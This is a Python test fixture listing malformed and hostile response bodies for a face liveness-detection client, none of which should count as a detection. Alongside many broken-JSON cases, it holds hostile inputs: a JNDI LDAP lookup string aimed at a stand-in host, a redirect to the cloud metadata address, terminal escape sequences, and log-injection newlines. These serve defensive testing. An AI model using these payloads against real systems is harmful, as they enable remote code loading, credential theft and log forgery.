"""Hostile responses, of the service or of somebody in front of it."""

from __future__ import annotations

import json
from collections.abc import Mapping
from types import MappingProxyType

_LIVE: Mapping[str, object] = MappingProxyType(
    {"Score": 99.5, "IsLiveness": True, "FaceModelVersion": "3.0", "RequestId": "r-live"}
)


def _response(**fields: object) -> bytes:
    response = {name: value for name, value in {**_LIVE, **fields}.items() if value is not ...}
    return json.dumps({"Response": response}).encode()


def _error(code: object, message: object = "a message") -> bytes:
    return _response(Error={"Code": code, "Message": message})


_WHOLE = _response()

RESPONSES: Mapping[str, bytes] = MappingProxyType(
    {
        "nothing": b"",
        "blanks": b" \n",
        "a page": b"<html><body>502 Bad Gateway</body></html>",
        "a page that says live": b'<html>{"Response": {"IsLiveness": true}}</html>',
        "zero bytes": bytes(4096),
        "random bytes": bytes(range(256)),
        "gzip": b"\x1f\x8b\x08\0" + bytes(64),
        "half of it": _WHOLE[: len(_WHOLE) // 2],
        "all but the last byte": _WHOLE[:-1],
        "more behind it": _WHOLE + b"}",
        "twice": _WHOLE * 2,
        "with a byte order mark": b"\xef\xbb\xbf" + _WHOLE,
        "in UTF-16": _WHOLE.decode().encode("utf-16"),
        "in UTF-32": _WHOLE.decode().encode("utf-32"),
        "in UTF-7": b"+AHs-" + _WHOLE[1:],
        "broken UTF-8": _WHOLE.replace(b"r-live", b"r-\xff"),
        "as JSONP": b"callback(" + _WHOLE + b")",
        "behind a guard": b")]}',\n" + _WHOLE,
        "as XML": b"<Response><IsLiveness>true</IsLiveness></Response>",
        "as a form": b"IsLiveness=true&FaceModelVersion=3.0",
        "as a text of JSON": json.dumps(_WHOLE.decode()).encode(),
        "in a list": b"[" + _WHOLE + b"]",
        "brackets 60,000 deep": b"[" * 60_000,
        "objects 30,000 deep": b'{"Response":' * 30_000,
        "a number of 9,999 digits": b"9" * 9_999,
        "no Response": json.dumps(dict(_LIVE)).encode(),
        "response in small letters": json.dumps({"response": dict(_LIVE)}).encode(),
        "Response null": b'{"Response": null}',
        "Response a list": json.dumps({"Response": [dict(_LIVE)]}).encode(),
        "Response a text": json.dumps({"Response": "live"}).encode(),
        "Response empty": b'{"Response": {}}',
        "Response in Response": json.dumps({"Response": {"Response": dict(_LIVE)}}).encode(),
        "two Responses": b'{"Response": {}, ' + _WHOLE[1:],
        "two results": _WHOLE.replace(b'"IsLiveness"', b'"IsLiveness": false, "IsLiveness"'),
        "no result": _response(IsLiveness=...),
        "null for a result": _response(IsLiveness=None),
        "1 for true": _response(IsLiveness=1),
        "a text for true": _response(IsLiveness="true"),
        "a list for true": _response(IsLiveness=[True]),
        "an object for true": _response(IsLiveness={"value": True}),
        "a result in small letters": _response(IsLiveness=..., isliveness=True),
        "no model": _response(FaceModelVersion=...),
        "an unknown model": _response(FaceModelVersion="4.0"),
        "a model as a number": _response(FaceModelVersion=3.0),
        "a model with a blank": _response(FaceModelVersion="3.0 "),
        "a model in other digits": _response(FaceModelVersion="\u0663.0"),
        "model 2.0 without a score": _response(FaceModelVersion="2.0", Score=...),
        "model 2.0 with a text": _response(FaceModelVersion="2.0", Score="99"),
        "model 2.0 with true": _response(FaceModelVersion="2.0", Score=True),
        "model 2.0 below the range": _response(FaceModelVersion="2.0", Score=-1),
        "model 2.0 above the range": _response(FaceModelVersion="2.0", Score=101),
        "model 2.0 without end": _response(FaceModelVersion="2.0", Score=float("inf")),
        "model 2.0 with no number": _response(FaceModelVersion="2.0", Score=float("nan")),
        "model 2.0 too small to store": _response(FaceModelVersion="2.0").replace(
            b"99.5", b"1e-120"
        ),
        "model 2.0 with a huge exponent": _response(FaceModelVersion="2.0").replace(
            b"99.5", b"1e999999999"
        ),
        "no request id": _response(RequestId=...),
        "a request id with a newline": _response(RequestId="r\nINFO live"),
        "a request id for the terminal": _response(RequestId="\x1b[2J"),
        "a request id of 129 letters": _response(RequestId="r" * 129),
        "a request id as an object": _response(RequestId={}),
        "an error beside a verdict": _error("InternalError"),
        "an empty error beside a verdict": _response(Error={}),
        "no error beside a verdict": _response(Error=None),
        "an error in words": _response(Error="InternalError"),
        "a code as a number": _error(7),
        "a code as a list": _error(["InternalError"]),
        "an unknown code": _error("YouHaveBeenHacked"),
        "a code with a newline": _error("InternalError\nlive"),
        "a code of 1,000 letters": _error("A" * 1_000),
        "a code that is a class": _error("__class__"),
        "a message of a megabyte": _error("InternalError", "a " * 2**19),
        "a message with an address": _error(
            "InternalError", "https://b.example/k?X-Amz-Signature=abc&X-Amz-Credential=def"
        ),
        "a message with an encoded address": _error(
            "InternalError", "https%3A%2F%2Fb.example%2Fk%3FX-Amz-Signature%3Dabc"
        ),
        "a message with an image": _error("InternalError", "iVBORw0KGgo" * 20),
        "a message for the terminal": _error("InternalError", "\x1b]0;live\x07\x1b[2J"),
        "a message with a line of log": _error("InternalError", 'a\n{"outcome": "live"}'),
        "a message as an object": _error("InternalError", {"live": True}),
        "a message of half a character": _error("InternalError", "\ud83d"),
        "a message that triggers a lookup": _error(
            "InternalError", "${jndi:ldap://somebody.example/a}"
        ),
        "a redirection": _error("InternalError", "Location: http://169.254.169.254/"),
    }
)
"""By name: bodies of responses, none of which is a detection."""
